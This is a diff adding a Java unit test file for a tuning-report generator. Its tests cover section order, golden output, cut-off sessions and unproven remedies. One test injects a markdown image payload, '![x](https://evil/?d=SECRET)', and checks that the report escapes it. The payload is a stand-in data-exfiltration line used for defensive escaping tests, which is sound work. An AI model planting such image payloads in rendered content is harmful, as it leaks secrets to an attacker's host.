@@ -1,0 +1,88 @@
+package dev.tunesmith.reports;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import dev.tunesmith.core.session.SessionEvent;
+import dev.tunesmith.core.session.SessionEvent.RemedyAccepted;
+import java.io.IOException;
+import java.io.InputStream;
+import java.nio.charset.StandardCharsets;
+import java.util.ArrayList;
+import java.util.List;
+import org.junit.jupiter.api.Test;
+
+class ReportTest {
+  @Test
+  void the_report_of_a_small_session_reads_like_this() throws IOException {
+    assertThat(Report.of(ShopSession.state())).isEqualTo(golden("shop-report.md"));
+  }
+
+  @Test
+  void the_result_comes_first_and_the_limits_last() {
+    assertThat(Report.of(ShopSession.state()).lines().filter(line -> line.startsWith("## ")))
+        .containsExactly(
+            "## Proven remedies",
+            "## Issues",
+            "## Refused remedies",
+            "## Decisions",
+            "## Statements left out",
+            "## Workload before and after",
+            "## How it was measured",
+            "## Crew",
+            "## Limits");
+  }
+
+  @Test
+  void an_image_in_a_root_cause_stays_text() {
+    List<SessionEvent> events = new ArrayList<>();
+    for (SessionEvent event : ShopSession.events()) {
+      events.add(
+          event instanceof RemedyAccepted accepted
+              ? new RemedyAccepted(
+                  accepted.issue(),
+                  HostileText.causedBy("![x](https://evil/?d=SECRET)", accepted.proposal()),
+                  accepted.trial(),
+                  accepted.migration())
+              : event);
+    }
+
+    assertThat(Report.of(ShopSession.stateOf(events)))
+        .contains("\\!\\[x\\](https:&#47;&#47;evil")
+        .doesNotContain("![x]");
+  }
+
+  @Test
+  void a_session_cut_off_says_so() {
+    assertThat(Report.of(ShopSession.stateOf(ShopSession.opening())))
+        .contains("The session was cut off; this is what stood by then.")
+        .contains("The workload was not measured again.");
+  }
+
+  @Test
+  void a_remedy_accepted_without_proof_is_shown_as_refused() {
+    List<SessionEvent> events =
+        ShopSession.events().stream()
+            .filter(event -> !(event instanceof SessionEvent.GatesJudged))
+            .toList();
+
+    assertThat(Report.of(ShopSession.stateOf(events)))
+        .contains("None. Only what a trial has proven")
+        .contains("the ledger holds no complete proof of it");
+  }
+
+  @Test
+  void no_report_breaks_on_odd_events() {
+    for (long seed = 0; seed < 100; seed++) {
+      assertThat(Report.of(ShopSession.stateOf(new OddEvents(seed).draw(60))))
+          .as("seed %d", seed)
+          .startsWith("# Tuning report")
+          .doesNotContain("null");
+    }
+  }
+
+  private static String golden(String name) throws IOException {
+    try (InputStream file = ReportTest.class.getResourceAsStream(name)) {
+      return new String(file.readAllBytes(), StandardCharsets.UTF_8);
+    }
+  }
+}
